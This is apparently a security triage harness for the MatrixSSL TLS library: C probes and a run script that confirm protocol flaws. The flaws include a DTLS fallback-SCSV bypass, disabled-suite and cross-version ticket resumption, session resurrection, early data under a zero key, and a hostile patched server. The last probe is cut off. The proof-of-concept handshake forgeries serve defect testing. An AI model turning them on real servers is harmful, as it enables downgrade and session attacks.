        rc = deliver(s, rec, 5 + innerLen + 16, app, &appLen);
        printf("    server's answer: %d\n", (int) rc);
    }
    if (appLen >= sizeof(FORGED) - 1 &&
        memcmp(app, FORGED, sizeof(FORGED) - 1) == 0)
    {
        printf("RESULT: CONFIRMED: the server accepts early data under an "
            "all-zero key\n");
        return 1;
    }
    printf("RESULT: not confirmed\n");
    return 0;
}
