/*
    Side observation probe (UNMODIFIED code): a DTLS server does not enforce
    TLS_FALLBACK_SCSV (RFC 7507, which covers DTLS too).

    parseClientHello() compares ClientHello.client_version with
    psVerGetHighestTls(GET_SUPP_VER(ssl)).  psVerGetHighestTls() skips the DTLS
    version bits, so for a DTLS server it returns v_undefined (0) and
    "peerHelloVersion < 0" is never true.

    (A MatrixSSL DTLS client cannot send the SCSV itself: with
    sslSessOpts_t.fallbackScsv = 1 the ClientHello that answers the
    HelloVerifyRequest is re-encoded with zeroed options while
    extFlags.req_fallback_scsv is still set, the length computed and the bytes
    written disagree and the client aborts with internal_error.  So the SCSV
    is spliced into the ClientHello on the wire here, which is all a server
    ever sees of a falling-back client.)

    Server: versions {1.2, 1.0/1.1}; client: lowest one only.  The ClientHello
    that reaches the server's cipher list scan carries TLS_FALLBACK_SCSV.  The
    server MUST answer with a fatal inappropriate_fallback(86) alert.  The TLS
    case is the reference, the DTLS case is the observation.

    exit 1 + message when the DTLS server goes on with a ServerHello, else 0.
 */
#include "probe_common.h"

/* splice 0x5600 at the end of cipher_suites of a ClientHello record */
static int addScsv(unsigned char *buf, int len, int dtls)
{
    int hdr = dtls ? 13 : 5, hs = dtls ? 12 : 4, cl, v;
    unsigned char *p = buf + hdr + hs, *ins;

    if (buf[0] != 22 || buf[hdr] != 1)
    {
        return -1;
    }
    p += 2 + 32;
    p += 1 + p[0];              /* session id */
    if (dtls)
    {
        p += 1 + p[0];          /* cookie */
    }
    cl = (p[0] << 8) | p[1];
    ins = p + 2 + cl;
    memmove(ins + 2, ins, len - (ins - buf));
    ins[0] = 0x56; ins[1] = 0x00;
    cl += 2; p[0] = cl >> 8; p[1] = cl & 0xff;
    v = ((buf[hdr - 2] << 8) | buf[hdr - 1]) + 2;               /* record */
    buf[hdr - 2] = v >> 8; buf[hdr - 1] = v & 0xff;
    v = ((buf[hdr + 1] << 16) | (buf[hdr + 2] << 8) | buf[hdr + 3]) + 2;
    buf[hdr + 1] = v >> 16; buf[hdr + 2] = v >> 8; buf[hdr + 3] = v & 0xff;
    if (dtls)
    {
        v = ((buf[hdr + 9] << 16) | (buf[hdr + 10] << 8) | buf[hdr + 11]) + 2;
        buf[hdr + 9] = v >> 16; buf[hdr + 10] = v >> 8; buf[hdr + 11] = v & 0xff;
    }
    return len + 2;
}

static int32 getOut(ssl_t *s, unsigned char **out)
{
    return g_dtls ? matrixDtlsGetOutdata(s, out) : matrixSslGetOutdata(s, out);
}

static void sent(ssl_t *s, int32 n)
{
    if (g_dtls)
    {
        matrixDtlsSentData(s, n);
    }
    else
    {
        matrixSslSentData(s, n);
    }
}

/* 0: server refused with inappropriate_fallback, 1: server went on, 2: ? */
static int one(int dtls)
{
    ssl_t *srv = NULL, *cln = NULL;
    sslSessOpts_t so, co;
    sslSessionId_t *sid = NULL;
    psCipher16_t offer[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };
    unsigned char *out, tmp[4096];
    int32 n;
    int done = 0, res = 2, hdr = dtls ? 13 : 5;
    const char *what = dtls ? "DTLS" : "TLS";

    g_dtls = dtls;
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    if (dtls)
    {
        so.versionFlag = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2; /* 1.2 + 1.0 */
        co.versionFlag = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_1; /* 1.0 */
    }
    else
    {
        psProtocolVersion_t sv[2] = { v_tls_1_2, v_tls_1_1 };
        psProtocolVersion_t cv[1] = { v_tls_1_1 };
        if (matrixSslSessOptsSetServerTlsVersions(&so, sv, 2) < 0 ||
            matrixSslSessOptsSetClientTlsVersions(&co, cv, 1) < 0)
        {
            return 2;
        }
    }
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cln, g_clnKeys, sid, offer, 1, certCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        printf("  %s: cannot create sessions\n", what);
        return 2;
    }

    if (dtls)
    {
        /* ClientHello without cookie -> HelloVerifyRequest, untouched */
        n = getOut(cln, &out); memcpy(tmp, out, n); sent(cln, n);
        if (feed(srv, tmp, n, &done) < 0)
        {
            return 2;
        }
        n = getOut(srv, &out); memcpy(tmp, out, n); sent(srv, n);
        if (feed(cln, tmp, n, &done) < 0)
        {
            return 2;
        }
    }
    n = getOut(cln, &out);
    if (n <= 0 || n > (int32) sizeof(tmp) - 2)
    {
        return 2;
    }
    memcpy(tmp, out, n); sent(cln, n);
    n = addScsv(tmp, n, dtls);
    if (n < 0)
    {
        printf("  %s: unexpected client output\n", what);
        return 2;
    }
    n = feed(srv, tmp, n, &done);
    if (n < 0)
    {
        printf("  %s: server could not take the ClientHello (%d)\n", what,
            (int) n);
        return 2;
    }
    n = getOut(srv, &out);
    if (n >= hdr + 2 && out[0] == 21)
    {
        printf("  %s server: fatal alert %d%s\n", what, out[hdr + 1],
            out[hdr + 1] == 86 ? " (inappropriate_fallback) - correct" : "");
        res = (out[hdr + 1] == 86) ? 0 : 2;
    }
    else if (n >= hdr + 1 && out[0] == 22 && out[hdr] == 2)
    {
        printf("  %s server: answered the ClientHello carrying "
            "TLS_FALLBACK_SCSV with a ServerHello, version bytes %02x %02x, "
            "although it supports a higher version\n", what,
            out[hdr + (dtls ? 12 : 4)], out[hdr + (dtls ? 12 : 4) + 1]);
        res = 1;
    }
    else
    {
        printf("  %s server: unexpected output (%d bytes, type %d)\n", what,
            (int) n, n > 0 ? out[0] : -1);
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(srv);
    matrixSslDeleteSessionId(sid);
    return res;
}

int main(void)
{
    int rt, rd;

    if (loadKeys() < 0)
    {
        return 2;
    }
    rt = one(0);
    rd = one(1);
    matrixSslDeleteKeys(g_srvKeys);
    matrixSslDeleteKeys(g_clnKeys);
    matrixSslClose();
    if (rd == 1)
    {
        printf("  VIOLATION: unjustified fallback not refused over DTLS\n");
        return 1;
    }
    return (rt || rd) ? 2 : 0;
}
