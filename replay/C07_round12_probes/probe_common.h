/* Shared in-memory pump for the side-observation probes (probe_*.c) */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "matrixssl/matrixsslApi.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static sslKeys_t *g_srvKeys, *g_clnKeys;
static int g_dtls; /* use the matrixDtls* output calls */

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static int feed(ssl_t *to, const unsigned char *data, int len, int *complete)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 avail, rc;
    int n;

    while (len > 0)
    {
        avail = matrixSslGetReadbuf(to, &buf);
        if (avail <= 0)
        {
            return -1;
        }
        n = len < avail ? len : avail;
        memcpy(buf, data, n);
        data += n;
        len -= n;
        rc = matrixSslReceivedData(to, n, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                return rc;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                *complete = 1;
                break;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                if (ptLen >= 2 && pt[0] == SSL_ALERT_LEVEL_FATAL)
                {
                    return -1000 - pt[1];
                }
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            break;
        }
    }
    return 0;
}

/* DTLS: one datagram per matrixSslGetOutdata call is fine in memory */
static int flush(ssl_t *from, ssl_t *to, int *fromComplete, int *toComplete,
    int *moved)
{
    unsigned char *out, tmp[20000];
    int32 n, rc;

    while ((n = g_dtls ? matrixDtlsGetOutdata(from, &out) :
            matrixSslGetOutdata(from, &out)) > 0)
    {
        if (n > (int32) sizeof(tmp))
        {
            n = sizeof(tmp);
        }
        memcpy(tmp, out, n);
        rc = g_dtls ? matrixDtlsSentData(from, n) : matrixSslSentData(from, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            *fromComplete = 1;
        }
        else if (rc < 0)
        {
            return rc;
        }
        *moved += n;
        rc = feed(to, tmp, n, toComplete);
        if (rc < 0)
        {
            return rc;
        }
    }
    return 0;
}

static int handshake(ssl_t *cln, ssl_t *srv, int *why)
{
    int cDone = 0, sDone = 0, moved, i, rc;

    for (i = 0; i < 64; i++)
    {
        moved = 0;
        if ((rc = flush(cln, srv, &cDone, &sDone, &moved)) < 0)
        {
            *why = rc;
            return 0;
        }
        if ((rc = flush(srv, cln, &sDone, &cDone, &moved)) < 0)
        {
            *why = rc;
            return 0;
        }
        if (cDone && sDone)
        {
            return 1;
        }
        if (moved == 0)
        {
            break;
        }
    }
    *why = -2;
    return 0;
}

static int loadKeys(void)
{
    if (matrixSslOpen() < 0)
    {
        return -1;
    }
    if (matrixSslNewKeys(&g_srvKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_clnKeys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(g_srvKeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadRsaKeysMem(g_clnKeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        return -1;
    }
    return 0;
}
