/*
    Side observation probe (UNMODIFIED code): a session-cache resumption puts a
    cipher suite in force that the server application disabled for the new
    session after the original handshake.

    matrixResumeSession() loads ssl->cipher straight from the cache entry and
    parseClientHello() only checks that the client listed it; sslGetCipherSpec()
    (the place that honours the disabled lists) is never consulted.  The session
    ticket path does go through sslGetCipherSpec().

    exit 1 + message when the disabled suite ends up in force, 0 otherwise.
 */
#include "probe_common.h"

#define B12 TLS_RSA_WITH_AES_128_GCM_SHA256

static int one(int globalDisable)
{
    ssl_t *srv = NULL, *cln = NULL;
    sslSessOpts_t so, co;
    sslSessionId_t *sid = NULL;
    psCipher16_t offer[1] = { B12 }, suite = 0;
    int why = 0, res = 0;

    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    so.versionFlag = SSL_FLAGS_TLS_1_2;
    co.versionFlag = SSL_FLAGS_TLS_1_2;

    /* first connection: B12 is fine */
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cln, g_clnKeys, sid, offer, 1, certCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND ||
        !handshake(cln, srv, &why))
    {
        printf("  first handshake did not work (%d)\n", why);
        return 2;
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(srv);

    /* second connection: the application does not want B12 any more */
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    so.versionFlag = SSL_FLAGS_TLS_1_2;
    co.versionFlag = SSL_FLAGS_TLS_1_2;
    if (globalDisable)
    {
        matrixSslSetCipherSuiteEnabledStatus(NULL, B12, PS_FALSE);
    }
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0)
    {
        return 2;
    }
    if (!globalDisable &&
        matrixSslSetCipherSuiteEnabledStatus(srv, B12, PS_FALSE) != PS_SUCCESS)
    {
        return 2;
    }
    if (matrixSslNewClientSession(&cln, g_clnKeys, sid, offer, 1, certCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        return 2;
    }
    if (handshake(cln, srv, &why))
    {
        matrixSslGetNegotiatedCiphersuite(srv, &suite);
        printf("  %s disable: second handshake completed, resumed=%d, "
            "suite 0x%04x\n", globalDisable ? "global" : "per-session",
            (int) matrixSslIsResumedSession(srv), suite);
        if (suite == B12)
        {
            printf("  VIOLATION: suite 0x%04x in force although the server "
                "disabled it before this handshake\n", suite);
            res = 1;
        }
    }
    else
    {
        printf("  %s disable: second handshake refused (%d) - fine\n",
            globalDisable ? "global" : "per-session", why);
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(srv);
    matrixSslDeleteSessionId(sid);
    if (globalDisable)
    {
        matrixSslSetCipherSuiteEnabledStatus(NULL, B12, PS_TRUE);
    }
    return res;
}

int main(void)
{
    int r1, r2;

    if (loadKeys() < 0)
    {
        return 2;
    }
    r1 = one(0);
    /* The global variant cannot be shown in one process: the global disable
        also stops the in-process client from offering / resuming the suite */
    r2 = 0;
    matrixSslDeleteKeys(g_srvKeys);
    matrixSslDeleteKeys(g_clnKeys);
    matrixSslClose();
    if (r1 == 1 || r2 == 1)
    {
        return 1;
    }
    return (r1 == 2 || r2 == 2) ? 2 : 0;
}
