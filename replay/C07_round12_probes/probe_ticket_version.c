/*
    Side observation probe (UNMODIFIED code): a TLS 1.2 session ticket is
    resumed under TLS 1.1.

    In parseClientHello() the session_ticket extension is unlocked while the
    extensions are parsed; matrixUnlockSessionTicket() compares the ticket's
    protocol version with GET_NGTD_VER(ssl), which at that point is only the
    provisional result of the legacy_version negotiation.  After the extensions
    are parsed, a supported_versions extension overrides the version
    (checkSupportedVersions) - the ticket, already accepted and flagged
    SSL_FLAGS_RESUMED, is not looked at again.  (The session-id cache path is
    fine: matrixResumeSession() runs after the override.)

    Server: TLS {1.2, 1.1} with ticket keys.  Connection 1: TLS 1.2, ticket
    issued for TLS_RSA_WITH_AES_128_GCM_SHA256 (a TLS 1.2-only suite).
    Connection 2: ClientHello with legacy_version 1.2, the ticket, and
    supported_versions = {TLS 1.1} (what a client that now supports 1.3 + 1.1
    but not 1.2 puts on the wire; the MatrixSSL client never sends a legacy
    ticket in a TLS 1.3 style hello, so the extension is spliced in).

    Expected: full handshake (or refusal).  Observed: ServerHello 03 02
    followed directly by ChangeCipherSpec = abbreviated handshake under TLS 1.1
    with the TLS 1.2 master secret and an AEAD/SHA-256 suite.

    exit 1 + message when that happens, else 0.
 */
#include "probe_common.h"

#define B12 TLS_RSA_WITH_AES_128_GCM_SHA256

/* append supported_versions = { 03 02 } to a TLS ClientHello record */
static int addSuppVer(unsigned char *buf, int len)
{
    static const unsigned char ext[7] = { 0x00, 0x2b, 0x00, 0x03, 0x02, 0x03, 0x02 };
    unsigned char *p = buf + 5 + 4;
    int v;

    if (buf[0] != 22 || buf[5] != 1)
    {
        return -1;
    }
    p += 2 + 32;
    p += 1 + p[0];                      /* session id */
    p += 2 + ((p[0] << 8) | p[1]);      /* cipher suites */
    p += 1 + p[0];                      /* compression */
    if (p + 2 > buf + len)
    {
        return -1;                      /* no extensions at all */
    }
    v = ((p[0] << 8) | p[1]);
    if (p + 2 + v != buf + len)
    {
        return -1;
    }
    v += 7; p[0] = v >> 8; p[1] = v & 0xff;
    memcpy(buf + len, ext, 7);
    v = ((buf[3] << 8) | buf[4]) + 7; buf[3] = v >> 8; buf[4] = v & 0xff;
    v = ((buf[6] << 16) | (buf[7] << 8) | buf[8]) + 7;
    buf[6] = v >> 16; buf[7] = v >> 8; buf[8] = v & 0xff;
    return len + 7;
}

int main(void)
{
    ssl_t *srv = NULL, *cln = NULL;
    sslSessOpts_t so, co;
    sslSessionId_t *sid = NULL;
    psCipher16_t offer[1] = { B12 };
    psProtocolVersion_t sv[2] = { v_tls_1_2, v_tls_1_1 };
    static const unsigned char tname[16] = "probe-ticket-key";
    unsigned char sym[32], mac[32], *out, tmp[4096];
    int why = 0, done = 0, res = 0;
    int32 n;

    if (loadKeys() < 0)
    {
        return 2;
    }
    memset(sym, 0x11, sizeof(sym));
    memset(mac, 0x22, sizeof(mac));
    if (matrixSslLoadSessionTicketKeys(g_srvKeys, tname, sym, 32, mac, 32) < 0)
    {
        printf("  cannot load ticket keys\n");
        return 2;
    }

    /* connection 1: TLS 1.2, get a ticket */
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersions(&so, sv, 2);
    matrixSslSessOptsSetClientTlsVersions(&co, sv, 2);
    co.ticketResumption = 1;
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cln, g_clnKeys, sid, offer, 1, certCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND ||
        !handshake(cln, srv, &why))
    {
        printf("  first handshake did not work (%d)\n", why);
        return 2;
    }
    printf("  connection 1: version 0x%x, ticket of %d bytes\n",
        (unsigned) matrixSslGetNegotiatedVersion(srv),
        (int) matrixSslSessionIdGetSessionTicketLen(sid));
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(srv);
    if (matrixSslSessionIdGetSessionTicketLen(sid) == 0)
    {
        return 2;
    }

    /* connection 2 */
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersions(&so, sv, 2);
    matrixSslSessOptsSetClientTlsVersions(&co, sv, 2);
    co.ticketResumption = 1;
    if (matrixSslNewServerSession(&srv, g_srvKeys, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cln, g_clnKeys, sid, offer, 1, certCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        return 2;
    }
    n = matrixSslGetOutdata(cln, &out);
    if (n <= 0 || n > (int32) sizeof(tmp) - 7)
    {
        return 2;
    }
    memcpy(tmp, out, n);
    matrixSslSentData(cln, n);
    n = addSuppVer(tmp, n);
    if (n < 0)
    {
        printf("  unexpected ClientHello layout\n");
        return 2;
    }
    n = feed(srv, tmp, n, &done);
    if (n < 0)
    {
        printf("  server refused the ClientHello (%d) - fine\n", (int) n);
        return 0;
    }
    n = matrixSslGetOutdata(srv, &out);
    if (n > 11 && out[0] == 22 && out[5] == 2)
    {
        int shLen = 5 + ((out[3] << 8) | out[4]);
        int next = (n > shLen) ? out[shLen] : -1;

        printf("  connection 2: ServerHello version %02x %02x, next record "
            "type %d (%s)\n", out[9], out[10], next,
            next == 20 ? "ChangeCipherSpec: abbreviated handshake" :
            "full handshake");
        if (out[9] == 3 && out[10] == 2 && next == 20)
        {
            printf("  VIOLATION: a TLS 1.2 ticket (suite 0x%04x) is resumed "
                "under TLS 1.1\n", B12);
            res = 1;
        }
    }
    else if (n > 6 && out[0] == 21)
    {
        printf("  connection 2: server alert %d - fine\n", out[6]);
    }
    else
    {
        printf("  connection 2: unexpected server output\n");
        res = 2;
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(srv);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(g_srvKeys);
    matrixSslDeleteKeys(g_clnKeys);
    matrixSslClose();
    return res;
}
