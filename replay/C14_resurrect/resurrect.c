/* Triage replay for C14 (found while reviewing a seeded change): can a session-cache entry that was invalidated by a
   fatal alert be resurrected by another connection of the same session closing cleanly afterwards?
   history: conn1 full handshake (kept open) ; conn2 resumes the id ; conn2's server side RECEIVES a fatal alert and is
   deleted (entry wiped) ; conn1 is closed cleanly and deleted ; conn3 presents the id.
   exit 1: conn3 is resumed (the invalidated session came back) ; exit 0: full handshake. */
#include "harness.h"
static int32 g_cb_calls;
static int32 cb(ssl_t *ssl, psX509Cert_t *cert, int32 alert) { g_cb_calls++; return 0; }
int main(int argc, char **argv)
{
    int control = argc > 1;   /* control: conn1 stays open (no clean close) before conn3 */
    hPeer c1 = {0}, s1 = {0}, c2 = {0}, s2 = {0}, c3 = {0}, s3 = {0};
    static unsigned char w[1 << 16];
    psCipher16_t suite = 0x003c;
    int n;
    if (h_server_keys(&s1) < 0) return 2;
    s2.keys = s3.keys = s1.keys;
    if (h_new_server(&s1, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c1, SSL_FLAGS_TLS_1_2, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c1, &s1) != 0) { printf("conn1 handshake failed\n"); return 2; }
    printf("conn1: full handshake, resumed=%d\n", matrixSslIsResumedSession(s1.ssl));
    /* conn2: same client session id */
    c2.keys = c1.keys; c2.sid = c1.sid;
    if (h_new_server(&s2, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c2, SSL_FLAGS_TLS_1_2, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c2, &s2) != 0) { printf("conn2 handshake failed\n"); return 2; }
    printf("conn2: resumed=%d\n", matrixSslIsResumedSession(s2.ssl));
    if (!matrixSslIsResumedSession(s2.ssl)) { printf("conn2 was not resumed - scenario not reached\n"); return 2; }
    /* make client 2 produce a fatal alert: feed it garbage, forward its alert to server 2 */
    { unsigned char junk[32] = { 23, 3, 3, 0, 27, 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27 };
      h_feed(&c2, junk, sizeof(junk)); }
    n = h_drain(&c2, w, sizeof(w));
    if (n > 0) h_feed(&s2, w, n);
    printf("server side of conn2 after the peer's alert: alerts=%d closed=%d lastRc=%d\n", s2.alerts, s2.closed, s2.lastRc);
    matrixSslDeleteSession(s2.ssl);
    /* conn1 closes cleanly */
    if (!control) {
    matrixSslEncodeClosureAlert(c1.ssl); n = h_drain(&c1, w, sizeof(w)); if (n > 0) h_feed(&s1, w, n);
    matrixSslEncodeClosureAlert(s1.ssl); n = h_drain(&s1, w, sizeof(w));
    matrixSslDeleteSession(s1.ssl);
    }
    /* conn3 presents the id again */
    c3.keys = c1.keys; c3.sid = c1.sid;
    g_cb_calls = 0;
    if (h_new_server(&s3, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c3, SSL_FLAGS_TLS_1_2, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c3, &s3) != 0) { printf("conn3: handshake failed (no resumption, no session)\n"); return 0; }
    printf("conn3: resumed=%d certificate callback calls=%d\n", matrixSslIsResumedSession(s3.ssl), g_cb_calls);
    if (matrixSslIsResumedSession(s3.ssl))
    {
        printf("DEFECT: a session invalidated by a fatal alert was resumed after another connection of it closed cleanly\n");
        return 1;
    }
    printf("OK: the invalidated session was not resumed\n");
    return 0;
}
