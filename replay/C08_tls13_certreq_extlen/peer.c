/* One TLS 1.3 endpoint over a connected socket (fd = argv[2]); role = argv[1] ("server" | "client").
   The SERVER binary is linked against a scratch copy of the library patched to misbehave (hostile.diff), the CLIENT binary
   against the library under test.  Triage only. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"
int main(int argc, char **argv)
{
    int server = argc > 1 && !strcmp(argv[1], "server"), fd = argc > 2 ? atoi(argv[2]) : 0;
    hPeer p = {0};
    unsigned char *buf, *pt; uint32 ptLen; int32 rc, n;
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6};
    if (server)
    {
        h_server_keys(&p);
        matrixSslLoadSessionTicketKeys(p.keys, name, sym, 32, mac, 32);
        {   /* server that requests client authentication */
            sslSessOpts_t o; memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3;
            if (matrixSslNewServerSession(&p.ssl, p.keys, h_certCbAllowAll, &o) < 0) return 2;
        }
    }
    else if (h_new_client(&p, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return 2;
    for (;;)
    {
        while ((n = matrixSslGetOutdata(p.ssl, &buf)) > 0)
        {
            if (write(fd, buf, n) != n) return 3;
            rc = matrixSslSentData(p.ssl, n);
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p.hsDone = 1;
            if (rc == MATRIXSSL_REQUEST_CLOSE || rc < 0) goto out;
        }
        if (p.hsDone) break;
        n = matrixSslGetReadbuf(p.ssl, &buf);
        if (n <= 0) break;
        n = read(fd, buf, n);
        if (n <= 0) break;
        rc = matrixSslReceivedData(p.ssl, n, &pt, &ptLen);
        while (rc == MATRIXSSL_RECEIVED_ALERT || rc == MATRIXSSL_APP_DATA)
        {
            if (rc == MATRIXSSL_RECEIVED_ALERT) fprintf(stderr, "[%s] alert %d/%d\n", argv[1], pt[0], pt[1]);
            rc = matrixSslProcessedData(p.ssl, &pt, &ptLen);
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p.hsDone = 1;
        if (rc < 0) { fprintf(stderr, "[%s] error %d\n", argv[1], rc); break; }
    }
out:
    if (!server)
    {
        printf("client: survived the CertificateRequest (handshake complete=%d, err=%d)\n", p.hsDone, p.ssl->err);
        printf("RESULT ok (no memory error reported by the sanitizer)\n");
        return 0;
    }
    return 0;
}
