#!/bin/sh
# usage: run.sh [rev of /repo for the CLIENT | WORKTREE]  - hostile TLS 1.3 server (scratch copy of HEAD + hostile.diff) against an
# AddressSanitizer build of the client library
D=/verif/replay/C08_tls13_certreq_extlen; H=/tmp/c08cr_hostile
sh /verif/replay/C08_asan/build_asan.sh ${1:-WORKTREE} || exit 2
rm -rf $H; mkdir -p $H
(cd /repo && git archive HEAD | (cd $H && tar xf -)); for f in crypto/cryptoConfig.h matrixssl/matrixsslConfig.h core/config/coreConfig.h; do cp /repo/$f $H/$f; done
(cd $H && patch -p1 -s < $D/hostile.diff && make libs > $H/build.log 2>&1) || { echo "hostile build failed"; tail -5 $H/build.log; exit 2; }
inc() { echo "-I/verif/replay -I$1 -I$1/core/config -I$1/core/include -I$1/core/osdep/include -I$1/core/include/sfzcl $1/matrixssl/libssl_s.a $1/crypto/libcrypt_s.a $1/core/libcore_s.a -lpthread -w"; }
cc -o /tmp/c08cr_server $D/peer.c $(inc $H) && clang -fsanitize=address -g -o /tmp/c08cr_client $D/peer.c $(inc /tmp/asan_tree) || exit 2
ASAN_OPTIONS=detect_leaks=0 python3 - <<'PY'
import socket, subprocess, sys
a, b = socket.socketpair()
s = subprocess.Popen(["/tmp/c08cr_server", "server", str(a.fileno())], pass_fds=[a.fileno()])
c = subprocess.Popen(["/tmp/c08cr_client", "client", str(b.fileno())], pass_fds=[b.fileno()])
try: rc = c.wait(timeout=30)
except Exception: c.kill(); rc = 3
a.close(); b.close()
try: s.wait(timeout=5)
except Exception: s.kill()
sys.exit(rc)
PY
rc=$?; rm -rf $H /tmp/asan_tree; exit $rc
