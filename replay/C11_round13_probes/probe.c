/*
 * Probes for side observations on the UNMODIFIED library (property C11).
 * Each probe prints OBSERVED (the questionable behaviour is present) or
 * not-observed.  The exit status is always 0: this is not the demo.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/wait.h>

#include "crypto/cryptoApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"

/* internal (non-static) helpers of crypto/pubkey/ecc_math.c */
extern psEccPoint_t *eccNewPoint(psPool_t *pool, short size);
extern void eccFreePoint(psEccPoint_t *p);
extern int32_t eccMulmod(psPool_t *pool, const pstm_int *k,
        const psEccPoint_t *G, psEccPoint_t *R, pstm_int *modulus,
        uint8_t map, pstm_int *tmp_int);
extern int32_t eccProjectiveAddPoint(psPool_t *pool, const psEccPoint_t *P,
        const psEccPoint_t *Q, psEccPoint_t *R, const pstm_int *modulus,
        const pstm_digit *mp, pstm_int *tmp_int);
extern int32_t eccMap(psPool_t *pool, psEccPoint_t *P, const pstm_int *modulus,
        const pstm_digit *mp);

static void hex(const char *label, const unsigned char *b, size_t n)
{
    size_t i;

    printf("    %s", label);
    for (i = 0; i < n; i++)
    {
        printf("%02x", b[i]);
    }
    printf("\n");
}

/* DER INTEGER of a non-negative pstm_int, returns number of bytes written */
static int der_int(unsigned char *out, const pstm_int *a)
{
    unsigned char tmp[80];
    int n = pstm_unsigned_bin_size(a), o = 0;

    if (n == 0)
    {
        out[0] = 0x02; out[1] = 0x01; out[2] = 0x00;
        return 3;
    }
    pstm_to_unsigned_bin(NULL, a, tmp);
    out[o++] = 0x02;
    if (tmp[0] & 0x80)
    {
        out[o++] = (unsigned char) (n + 1);
        out[o++] = 0x00;
    }
    else
    {
        out[o++] = (unsigned char) n;
    }
    memcpy(out + o, tmp, n);
    return o + n;
}

static int der_sig(unsigned char *out, const pstm_int *r, const pstm_int *s)
{
    unsigned char body[160];
    int n = 0;

    n += der_int(body + n, r);
    n += der_int(body + n, s);
    out[0] = 0x30;
    out[1] = (unsigned char) n; /* P-256: always < 128 */
    memcpy(out + 2, body, n);
    return n + 2;
}

static int ecdsa_verify(const psEccKey_t *pub, const unsigned char *dig,
    psSize_t digLen, const unsigned char *sig, psSize_t sigLen)
{
    int32_t status = -99;
    int32_t rc = psEccDsaVerify(NULL, pub, dig, digLen, sig, sigLen, &status,
            NULL);

    printf("    psEccDsaVerify rc=%d status=%d\n", (int) rc, (int) status);
    return (rc >= 0 && status == 1);
}

/******************************************************************************/
/* 1. e = 0 (mod n): eccMulmod(0, G) yields G instead of the point at infinity */
static void probe_ecdsa_zero_digest(const psEccKey_t *priv,
    const psEccKey_t *pub)
{
    unsigned char zero[32] = { 0 };
    unsigned char sig[160];
    psSize_t sigLen = sizeof(sig);
    const psEccCurve_t *cv = pub->curve;
    pstm_int n, m, one, b, binv, r, s;
    psEccPoint_t *mG, *mQ;
    pstm_digit mp;
    int len, ok;

    printf("[1] ECDSA P-256, digest of 32 zero octets (e = 0)\n");
    printf("  (a) genuine signature made with the private key:\n");
